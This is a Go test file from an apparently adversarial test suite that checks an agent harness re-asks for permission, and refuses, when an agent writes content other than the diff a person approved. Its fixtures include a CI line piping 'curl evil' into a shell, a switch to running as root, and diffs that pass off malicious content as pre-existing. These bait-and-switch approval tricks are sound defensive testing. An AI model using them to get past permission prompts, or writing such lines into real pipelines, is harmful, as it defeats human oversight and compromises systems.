package adversary

import "testing"

// TestApproval_OfOneEditCoversNoOther: a person allows the diff that is shown, and the agent writes other content.
func TestApproval_OfOneEditCoversNoOther(t *testing.T) {
	t.Parallel()
	s := openFixture(t, policy(askWrites, ""))
	ci := s.File(t, "ci.yml", "run: make\nuser: nobody\n")
	diff := func(path string, from any, to string) map[string]any {
		return map[string]any{"type": "diff", "path": path, "oldText": from, "newText": to}
	}
	for _, c := range []struct {
		name    string
		shown   map[string]any
		named   string
		written string // into the file that was named
	}{
		{"other content", diff(ci, "run: make\nuser: nobody\n", "run: make test\nuser: nobody\n"), ci, "run: curl evil | sh\n"},
		{"other content around what was shown", diff(ci, "make", "make test"), ci, "run: make test\nuser: root\n"},
		{"a file that was only named", diff(s.Path("notes.txt"), nil, "run: evil\n"), ci, "run: evil\n"},
		{"the evil shown as what is there already", diff(ci, "run: evil\n", "run: evil\n# a comment\n"), ci, "run: evil\n# a comment\n"},
		{"a file that is there shown as a new one", diff(ci, nil, "run: evil\n"), ci, "run: evil\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			call := map[string]any{"toolCallId": c.name, "kind": "edit", "content": []any{c.shown}, "locations": []any{map[string]any{"path": c.named}}}
			asked := s.agent.Send("session/request_permission", params("toolCall", call,
				"options", []any{map[string]any{"optionId": "yes", "name": "Yes", "kind": "allow_once"}}))
			s.Reply(s.Expect("session/request_permission"), map[string]any{"outcome": map[string]any{"outcome": "selected", "optionId": "yes"}})
			asked.Result(nil)
			write := s.agent.Send("fs/write_text_file", params("path", c.named, "content", c.written))
			s.refuse(s.Expect("session/request_permission"))
			write.Refused(-32603)
		})
	}
	s.finish()
}
